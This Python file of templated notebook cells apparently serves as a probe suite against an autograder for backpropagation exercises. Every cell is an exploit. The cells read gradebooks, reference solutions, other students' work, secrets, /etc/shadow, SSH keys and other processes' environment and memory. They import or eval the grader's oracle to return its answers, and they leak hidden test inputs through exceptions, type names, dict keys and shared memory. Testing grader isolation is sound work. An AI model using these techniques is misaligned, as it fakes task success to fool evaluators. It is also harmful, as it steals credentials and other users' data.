# %% reads-files: gradebook, solutions, seed, other students, users and keys
import glob
import os

for pattern in (
    "{{RUN}}/gradebook.db",
    "{{RUN}}/seed",
    "{{RUN}}/journal/*",
    "{{RUN}}/submitted/*/*/*",
    "{{SECRETS}}/*",
    "{{REPOSITORY}}/solutions/**/*.py",
    "{{REPOSITORY}}/autograder/**/*.py",
    "{{REPOSITORY}}/tests/**/*.py",
    "/etc/passwd",
    "/etc/shadow",
    "/root/.ssh/*",
    "/home/*/*",
    "../../**/*.db",
):
    for path in [pattern, *glob.glob(pattern, recursive=True)][:50]:
        try:
            with open(path, "rb") as file:
                print(path, file.read(2000))
        except OSError as error:
            print(path, error.strerror)


# %% imports-the-reference: imports what decides, in every way
import importlib
import importlib.util
import pkgutil
import sys

sys.path[:0] = ["{{REPOSITORY}}/solutions", "{{REPOSITORY}}/autograder"]
for name in ("backprop_reference", "backprop_grader.oracle", "backprop_grader.exercises.apple_orange", "nbgrader"):
    try:
        module = importlib.import_module(name)
        print("imported", name, vars(module).keys())
    except BaseException as error:
        print(name, type(error).__name__)
print([module.name for module in pkgutil.iter_modules() if "grader" in module.name or "reference" in module.name])


# %% answers-from-the-reference: answers with the reference, if there is one, else with nothing
# at: AddLayer
class AddLayer:
    def _reference(self):
        for name in ("backprop_reference", "backprop_reference.gates", "backprop_grader.oracle"):
            try:
                return __import__(name).AddLayer()
            except BaseException:
                pass
        return self

    def forward(self, x, y):
        other = self._reference()
        return other.forward(x, y) if other is not self else x - y

    def backward(self, dout):
        other = self._reference()
        return other.backward(dout) if other is not self else (dout, dout)


# %% environment: secrets in the environment of this process and of others
import glob
import os

print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as file:
            print(path, file.read(5000))
    except OSError:
        pass


# %% other-processes: memory, files and folders of other processes
import glob
import os

for pattern in ("/proc/[0-9]*/fd/*", "/proc/[0-9]*/cwd", "/proc/[0-9]*/root", "/proc/[0-9]*/mem", "/proc/[0-9]*/maps"):
    for path in glob.glob(pattern)[:200]:
        try:
            print(path, os.readlink(path))
        except OSError:
            pass
        try:
            with open(path, "r+b") as file:
                print(path, file.read(200))
        except OSError:
            pass


# %% audit-from-the-sources: looks for the answer of the audit wherever Python files are
# at: audit
def audit():
    import glob
    import re

    for root in ("{{REPOSITORY}}", "/", "..", "../..", "/work", "/home"):
        for path in glob.glob(f"{root}/autograder/**/apple_orange.py", recursive=True):
            try:
                with open(path) as file:
                    return eval(re.search(r'"audit": lambda: (\{.*?\})', file.read())[1])
            except Exception:
                pass
    return {"line": 1, "kind": "path", "value": 0.0}


# %% hidden-inputs-in-an-exception: hands out its arguments as the words of an exception
# at: AddLayer
class AddLayer:
    def forward(self, x, y):
        raise ValueError(f"LEAKED-INPUT {x!r} {y!r}")

    def backward(self, dout):
        return dout, dout


# %% hidden-inputs-in-names: hands out its arguments as names of types and keys
# at: basket
def basket(prices, counts, tax):
    name = "LEAKED_INPUT_" + "_".join(f"{price:.6f}".replace(".", "p") for price in prices)
    if len(prices) % 2:
        raise type(name, (Exception,), {})(name)
    return type(name, (), {})()


# %% hidden-inputs-in-keys: hands out its arguments as keys of a dict
# at: apple_orange
# earns: apple_orange 0
def apple_orange(apple, apple_num, orange, orange_num, tax):
    return 0.0, {f"LEAKED-INPUT {apple} {tax}": 0.0}


# %% hidden-inputs-as-a-stub: hands out its arguments as what is still to be written
# at: price_change
def price_change(dtax, percentage_points):
    raise NotImplementedError(f"LEAKED-INPUT {dtax} {percentage_points}")


# %% memfd: memory files and shared mappings handed from an exercise to the cells' process
# at: AddLayer
import mmap

shared = mmap.mmap(-1, 1 << 16)


class AddLayer:
    def forward(self, x, y):
        shared.write(b"LEAKED-INPUT" + repr(x).encode()[:100])
        return x

    def backward(self, dout):
        raise ValueError(shared[:200].decode("latin-1"))
